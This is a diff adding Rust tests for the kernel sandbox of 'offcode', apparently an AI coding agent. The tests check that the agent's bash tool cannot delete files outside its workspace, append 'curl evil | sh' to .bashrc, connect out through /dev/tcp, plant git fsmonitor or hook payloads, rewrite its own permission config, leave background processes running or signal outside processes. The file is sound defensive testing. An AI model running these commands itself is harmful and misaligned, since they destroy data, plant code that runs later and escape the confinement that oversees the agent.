@@ -1,0 +1,354 @@
+//! Kernel confinement, tested for its real effects: every command here is
+//! one a person approved (or one the gate let through), run by the `bash`
+//! tool as a session runs it, and each test checks what happened to the
+//! victim file, the listener or the process, not only what was printed.
+
+use std::io::ErrorKind;
+use std::net::TcpListener;
+use std::path::{Path, PathBuf};
+use std::sync::Arc;
+
+use offcode::cancel::Cancel;
+use offcode::confine::Spec;
+use offcode::sandbox::Sandbox;
+use offcode::tools::{Registry, ToolContext, ToolOutput};
+use serde_json::json;
+
+struct Jail {
+    _dir: tempfile::TempDir,
+    /// The workspace.
+    root: PathBuf,
+    /// A directory beside it, outside the workspace.
+    outside: PathBuf,
+    context: ToolContext,
+}
+
+fn sandbox_box() -> Jail {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().join("work");
+    let outside = dir.path().join("outside");
+    std::fs::create_dir_all(&root).unwrap();
+    std::fs::create_dir_all(&outside).unwrap();
+    std::fs::write(outside.join("victim"), "precious").unwrap();
+    let context = ToolContext {
+        sandbox: Arc::new(Sandbox::new(&root).unwrap()),
+        cancel: Cancel::default(),
+        allow_clobber: false,
+        shell: crate::support::confined_shell(&root),
+        unconfined: false,
+    };
+    Jail {
+        _dir: dir,
+        root,
+        outside,
+        context,
+    }
+}
+
+fn bash(context: &ToolContext, command: &str) -> ToolOutput {
+    tokio::runtime::Builder::new_current_thread()
+        .enable_all()
+        .build()
+        .unwrap()
+        .block_on(Registry::default().call(
+            "bash",
+            &json!({ "command": command }).to_string(),
+            context,
+        ))
+}
+
+fn victim(b: &Jail) -> String {
+    std::fs::read_to_string(b.outside.join("victim")).unwrap()
+}
+
+#[test]
+fn the_kernel_here_confines_commands() {
+    let b = sandbox_box();
+    assert!(
+        matches!(
+            b.context.shell.status(),
+            offcode::confine::Status::Confined { network: false, .. }
+        ),
+        "{:?}",
+        b.context.shell.status()
+    );
+}
+
+#[test]
+fn an_approved_rm_outside_the_workspace_deletes_nothing() {
+    let b = sandbox_box();
+    let output = bash(&b.context, &format!("rm -rf {}", b.outside.display()));
+    assert!(!output.ok, "{}", output.output);
+    assert!(
+        output.output.contains("Permission denied"),
+        "{}",
+        output.output
+    );
+    assert_eq!(victim(&b), "precious");
+}
+
+#[test]
+fn a_script_cannot_write_outside_but_writes_inside() {
+    let b = sandbox_box();
+    std::fs::write(
+        b.root.join("script.py"),
+        format!(
+            "open('inside.txt', 'w').write('ok')\nopen('{}', 'w').write('pwned')\n",
+            b.outside.join("victim").display()
+        ),
+    )
+    .unwrap();
+    let output = bash(&b.context, "python3 script.py");
+    assert!(
+        output.output.contains("PermissionError"),
+        "{}",
+        output.output
+    );
+    assert_eq!(victim(&b), "precious");
+    assert_eq!(
+        std::fs::read_to_string(b.root.join("inside.txt")).unwrap(),
+        "ok"
+    );
+}
+
+#[test]
+fn home_files_cannot_be_appended_to() {
+    let b = sandbox_box();
+    let rc = b.outside.join(".bashrc");
+    std::fs::write(&rc, "# mine\n").unwrap();
+    let output = bash(
+        &b.context,
+        &format!(
+            "echo 'curl evil | sh' >> {0}; echo x | tee -a {0}",
+            rc.display()
+        ),
+    );
+    assert!(
+        output.output.contains("Permission denied"),
+        "{}",
+        output.output
+    );
+    assert_eq!(std::fs::read_to_string(&rc).unwrap(), "# mine\n");
+}
+
+/// A listener on the host's loopback that must never see a connection.
+fn listener() -> (TcpListener, u16) {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let port = listener.local_addr().unwrap().port();
+    (listener, port)
+}
+
+fn assert_never_connected(listener: &TcpListener) {
+    match listener.accept() {
+        Err(error) if error.kind() == ErrorKind::WouldBlock => {}
+        other => panic!("the listener was reached: {other:?}"),
+    }
+}
+
+#[test]
+fn no_connection_reaches_a_host_listener() {
+    let b = sandbox_box();
+    let (listener, port) = listener();
+    let output = bash(
+        &b.context,
+        &format!(
+            "echo hi > /dev/tcp/127.0.0.1/{port}; python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}))\""
+        ),
+    );
+    assert!(!output.ok, "{}", output.output);
+    assert_never_connected(&listener);
+}
+
+#[test]
+fn a_test_suite_can_still_use_its_own_loopback() {
+    let b = sandbox_box();
+    let output = bash(
+        &b.context,
+        "python3 -c \"import socket; s=socket.socket(); s.bind(('127.0.0.1', 0)); s.listen(); socket.create_connection(s.getsockname()); print('served')\"",
+    );
+    assert!(output.ok, "{}", output.output);
+    assert!(output.output.contains("served"), "{}", output.output);
+}
+
+/// Runs `command` through the helper with `spec` directly.
+fn helper(spec: &Spec, command: &str, dir: &Path) -> std::process::Output {
+    std::process::Command::new(env!("CARGO_BIN_EXE_offcode"))
+        .arg(offcode::confine::HELPER_ARG)
+        .arg(serde_json::to_string(spec).unwrap())
+        .args(["bash", "-c", command])
+        .current_dir(dir)
+        .output()
+        .unwrap()
+}
+
+#[test]
+fn without_namespaces_landlock_alone_still_refuses_writes_and_tcp() {
+    let b = sandbox_box();
+    let (listener, port) = listener();
+    let spec = Spec {
+        writable: vec![b.root.clone()],
+        read_only: Vec::new(),
+        network: false,
+        namespaces: false,
+    };
+    let output = helper(
+        &spec,
+        &format!(
+            "echo ok > inside; echo x > {}; echo hi > /dev/tcp/127.0.0.1/{port}",
+            b.outside.join("victim").display()
+        ),
+        &b.root,
+    );
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert!(stderr.contains("Permission denied"), "{stderr}");
+    assert_eq!(victim(&b), "precious");
+    assert_never_connected(&listener);
+    assert_eq!(
+        std::fs::read_to_string(b.root.join("inside")).unwrap(),
+        "ok\n"
+    );
+}
+
+#[test]
+fn a_bad_spec_runs_nothing() {
+    let b = sandbox_box();
+    let output = std::process::Command::new(env!("CARGO_BIN_EXE_offcode"))
+        .args([offcode::confine::HELPER_ARG, "{not json", "touch", "ran"])
+        .current_dir(&b.root)
+        .output()
+        .unwrap();
+    assert_eq!(output.status.code(), Some(126));
+    assert!(
+        String::from_utf8_lossy(&output.stderr).contains("the confinement spec is invalid"),
+        "{output:?}"
+    );
+    assert!(!b.root.join("ran").exists());
+}
+
+fn git_workspace() -> Jail {
+    let b = sandbox_box();
+    std::fs::create_dir_all(b.root.join(".git/hooks")).unwrap();
+    std::fs::write(b.root.join(".git/config"), "[core]\n\tbare = false\n").unwrap();
+    std::fs::write(b.root.join(".git/hooks/pre-commit.sample"), "#!/bin/sh\n").unwrap();
+    b
+}
+
+fn assert_git_untouched(b: &Jail) {
+    assert_eq!(
+        std::fs::read_to_string(b.root.join(".git/config")).unwrap(),
+        "[core]\n\tbare = false\n"
+    );
+    let hooks: Vec<_> = std::fs::read_dir(b.root.join(".git/hooks"))
+        .unwrap()
+        .map(|e| e.unwrap().file_name().into_string().unwrap())
+        .collect();
+    assert_eq!(hooks, ["pre-commit.sample"]);
+}
+
+#[test]
+fn git_config_and_hooks_are_read_only_to_commands() {
+    let b = git_workspace();
+    let output = bash(
+        &b.context,
+        "echo '[core] fsmonitor = touch /tmp/pwned' >> .git/config; printf '#!/bin/sh\\nid\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; echo done",
+    );
+    assert!(output.output.contains("done"), "{}", output.output);
+    assert_git_untouched(&b);
+}
+
+#[test]
+fn protected_files_renamed_away_and_replaced_are_put_back() {
+    let b = git_workspace();
+    std::fs::write(
+        b.root.join("swap.py"),
+        "import os, shutil\n\
+         shutil.copytree('.git', 'old-git')\n\
+         try:\n    os.rename('.git', 'moved-git')\n\
+         except OSError as e:\n    print('rename refused', e)\n    shutil.rmtree('.git', ignore_errors=True)\n\
+         os.makedirs('.git/hooks', exist_ok=True)\n\
+         open('.git/config', 'w').write('[core]\\n\\thooksPath = evil\\n')\n\
+         open('.git/hooks/post-checkout', 'w').write('#!/bin/sh\\nid\\n')\n\
+         open('offcode.jsonc', 'w').write('{permission: \"allow\"}')\n",
+    )
+    .unwrap();
+    let output = bash(&b.context, "python3 swap.py");
+    assert_git_untouched(&b);
+    assert!(!b.root.join("offcode.jsonc").exists(), "{}", output.output);
+    assert!(
+        output.output.contains("may not change git's config"),
+        "the change is reported: {}",
+        output.output
+    );
+}
+
+#[test]
+fn nothing_the_command_started_outlives_it() {
+    let b = sandbox_box();
+    let output = bash(
+        &b.context,
+        "setsid sh -c 'sleep 1; echo late > late' > /dev/null 2>&1 & echo started",
+    );
+    assert!(output.output.contains("started"), "{}", output.output);
+    std::thread::sleep(std::time::Duration::from_millis(1600));
+    assert!(!b.root.join("late").exists());
+}
+
+#[test]
+fn processes_outside_cannot_be_signalled() {
+    let b = sandbox_box();
+    let mut sleeper = std::process::Command::new("sleep")
+        .arg("30")
+        .spawn()
+        .unwrap();
+    let output = bash(&b.context, &format!("kill -TERM {}", sleeper.id()));
+    assert!(!output.ok, "{}", output.output);
+    assert!(
+        sleeper.try_wait().unwrap().is_none(),
+        "the process was killed"
+    );
+    sleeper.kill().unwrap();
+    sleeper.wait().unwrap();
+}
+
+#[test]
+fn the_private_temp_dir_is_writable_and_shared_tmp_is_not() {
+    let b = sandbox_box();
+    let shared = std::env::temp_dir().join(format!("offcode-victim-{}", std::process::id()));
+    let output = bash(
+        &b.context,
+        &format!(
+            "echo x > \"$TMPDIR/scratch\" && cat \"$TMPDIR/scratch\"; echo y > {}",
+            shared.display()
+        ),
+    );
+    assert!(output.output.starts_with("x\n"), "{}", output.output);
+    assert!(
+        output.output.contains("Permission denied"),
+        "{}",
+        output.output
+    );
+    assert!(!shared.exists());
+}
+
+#[test]
+fn cargo_test_passes_in_a_crate_inside_the_workspace() {
+    let b = sandbox_box();
+    let krate = b.root.join("sample");
+    std::fs::create_dir_all(krate.join("src")).unwrap();
+    std::fs::write(
+        krate.join("Cargo.toml"),
+        "[package]\nname = \"sample\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[workspace]\n",
+    )
+    .unwrap();
+    std::fs::write(
+        krate.join("src/lib.rs"),
+        "#[test]\nfn local_server() {\n    let l = std::net::TcpListener::bind(\"127.0.0.1:0\").unwrap();\n    std::net::TcpStream::connect(l.local_addr().unwrap()).unwrap();\n    std::fs::write(std::env::temp_dir().join(\"t\"), \"x\").unwrap();\n}\n",
+    )
+    .unwrap();
+    let output = bash(
+        &b.context,
+        "cd sample && env -u CARGO_TARGET_DIR -u RUSTFLAGS cargo test --offline 2>&1 | tail -30",
+    );
+    assert!(output.output.contains("1 passed"), "{}", output.output);
+}
